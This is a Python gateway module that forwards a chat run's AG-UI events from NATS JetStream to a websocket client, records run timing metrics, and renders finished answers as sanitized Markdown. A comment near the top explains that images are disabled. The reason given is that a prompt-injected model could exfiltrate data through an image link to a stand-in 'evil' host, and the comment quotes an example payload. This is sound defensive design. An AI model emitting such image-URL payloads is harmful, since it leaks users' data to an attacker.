"""One chat run followed for one client: its AG-UI events, in order, from JetStream to a `RunSink` (the
chat socket of /ws, the event stream of /agui).

Each event is handed on from the subscription's own callback (nats-py delivers them one at a time, in
order), decoded once, with the bytes the worker published, so a sink that forwards them as they are
(the socket, with the run's `runId` spliced in) does not re-serialise per token."""

from __future__ import annotations

import asyncio
import contextlib
import json
import logging
import time
from collections.abc import Awaitable, Callable
from typing import Any, Protocol

from markdown_it import MarkdownIt
from nats.aio.msg import Msg
from nats.js import JetStreamContext
from nats.js.api import DeliverPolicy
from starlette.websockets import WebSocketDisconnect

from proto import subjects
from proto.codec import DecodeError, decode_run_event
from proto.events import TERMINAL, EventType
from proto.streams import ELECTION_S, through_election
from services.gateway.hub import HEARTBEAT_S
from services.gateway.metrics import Metrics

log = logging.getLogger(__name__)

# No raw HTML and no images: an image would be fetched as soon as the answer is shown, so a model led
# astray by a prompt injection could send data out in its URL (`![x](https://evil/?q=...)` stays a link).
MARKDOWN = (
    MarkdownIt("commonmark", {"html": False, "linkify": False}).enable("table").enable("strikethrough").disable("image")
)

Waiting = Callable[[str], Awaitable[None]]


class RunSink(Protocol):
    """Where one run's events go. Either method raises WebSocketDisconnect or RuntimeError once the
    client has gone: the relay then stops."""

    async def event(self, event: Any, data: bytes) -> None:
        """One AG-UI event of the run, decoded, and as the worker published it."""

    async def rendered(self, message_id: str, html: str) -> None:
        """A finished text message as sanitized HTML (its Markdown rendered here)."""


class RunClock:
    """Times one run from the person's message: the wait for a worker, the first text, the end."""

    def __init__(self, metrics: Metrics, run_id: str) -> None:
        self.metrics = metrics
        self.run_id = run_id
        self.submitted = time.monotonic()
        self.seen: set[EventType] = set()

    def saw(self, event: Any) -> None:
        kind: EventType = event.type
        first = kind not in self.seen
        self.seen.add(kind)
        elapsed = time.monotonic() - self.submitted
        if kind == EventType.RUN_STARTED and first:
            self.metrics.observe("run_wait_seconds", elapsed)
            log.info("run_id=%s started after %.3f s", self.run_id, elapsed)
        elif kind == EventType.TEXT_MESSAGE_CONTENT and first:
            self.metrics.observe("run_first_text_seconds", elapsed)
        elif kind == EventType.RUN_FINISHED:
            self.metrics.observe("run_seconds", elapsed)
            result = event.result if isinstance(event.result, dict) else {}
            self.metrics.count("runs_finished_total", model=str(result.get("model") or ""))
            log.info(
                "run_id=%s finished in %.3f s model=%s tokens=%s tokens_per_s=%s",
                self.run_id,
                elapsed,
                result.get("model"),
                result.get("tokens"),
                result.get("tokens_per_s"),
            )
        elif kind == EventType.RUN_ERROR:
            self.metrics.observe("run_seconds", elapsed)
            self.metrics.count("runs_failed_total", code=event.code)
            log.info("run_id=%s failed in %.3f s code=%s: %s", self.run_id, elapsed, event.code, event.message)


def with_run_id(data: bytes, run_id: str) -> str:
    """An AG-UI event's JSON object with `runId` added (a run id is letters, digits, `_` and `-`)."""
    text = data.decode().rstrip()
    if text.endswith("}"):
        return text[:-1] + f',"runId":"{run_id}"}}'
    return json.dumps(json.loads(text) | {"runId": run_id}, ensure_ascii=False)


class RunRelay:
    """Forwards one run's events to one sink until the run ends, the client goes, or it is stopped.
    `clock` times a run this client submitted (not one it resumed)."""

    def __init__(
        self, run_id: str, sink: RunSink, metrics: Metrics, clock: RunClock | None, no_worker_s: float
    ) -> None:
        self.run_id = run_id
        self.sink = sink
        self.metrics = metrics
        self.clock = clock
        self.no_worker_s = no_worker_s
        self.ready = asyncio.Event()  # set when the relay starts: events wait for it
        self.started = asyncio.Event()
        self.done = asyncio.Event()
        self.text: list[str] = []
        self.sub: Any = None

    async def subscribe(self, js: JetStreamContext) -> None:
        """Follow the run's events from its first (call before submitting the run); waits while the run
        events' stream elects a leader (a NATS node lost)."""
        self.sub = await through_election(
            lambda: js.subscribe(
                subjects.run_events(self.run_id),
                stream=subjects.RUN_EVENTS_STREAM,
                cb=self._forward,
                ordered_consumer=True,
                deliver_policy=DeliverPolicy.ALL,
                idle_heartbeat=HEARTBEAT_S,  # back within seconds after a nats-server restart
            ),
            ELECTION_S,
        )

    async def follow(self, waiting: Waiting) -> None:
        """Until the run ends; `waiting` is told once if no worker has started it in time."""
        self.ready.set()
        try:
            try:
                async with asyncio.timeout(self.no_worker_s):
                    await self.started.wait()
            except TimeoutError:
                await waiting(self.run_id)
            await self.done.wait()
        finally:
            self.done.set()
            with contextlib.suppress(Exception):
                await self.sub.unsubscribe()

    async def _forward(self, msg: Msg) -> None:
        await self.ready.wait()
        if self.done.is_set():
            return
        try:
            event = decode_run_event(msg.data)
        except DecodeError as error:
            log.error("run_id=%s skipping a malformed event: %s", self.run_id, error)
            return
        if event.type == EventType.RUN_STARTED:
            self.started.set()
            self.text = []
        elif event.type == EventType.TEXT_MESSAGE_CONTENT:
            self.text.append(event.delta)
        if self.clock is not None:
            self.clock.saw(event)
        try:
            await self.sink.event(event, msg.data)
            self.metrics.count("run_events_relayed_total", type=event.type.value)
            if event.type == EventType.TEXT_MESSAGE_END:
                # The finished message, as sanitized Markdown rendered here (raw HTML is not allowed).
                await self.sink.rendered(event.message_id, MARKDOWN.render("".join(self.text)))
        except (WebSocketDisconnect, RuntimeError):
            self.done.set()  # the client has gone
            return
        if event.type in TERMINAL:
            self.done.set()


class SocketSink:
    """A run's events for the chat socket: each as the worker published it with the run's `runId` added,
    and `{"type": "rendered", ...}` after each finished message."""

    def __init__(self, run_id: str, send_text: Callable[[str], Awaitable[None]]) -> None:
        self.run_id = run_id
        self.send_text = send_text

    async def event(self, event: Any, data: bytes) -> None:
        # RUN_STARTED and RUN_FINISHED carry their runId already.
        await self.send_text(data.decode() if hasattr(event, "run_id") else with_run_id(data, self.run_id))

    async def rendered(self, message_id: str, html: str) -> None:
        rendered = {"type": "rendered", "runId": self.run_id, "messageId": message_id, "html": html}
        await self.send_text(json.dumps(rendered, ensure_ascii=False))
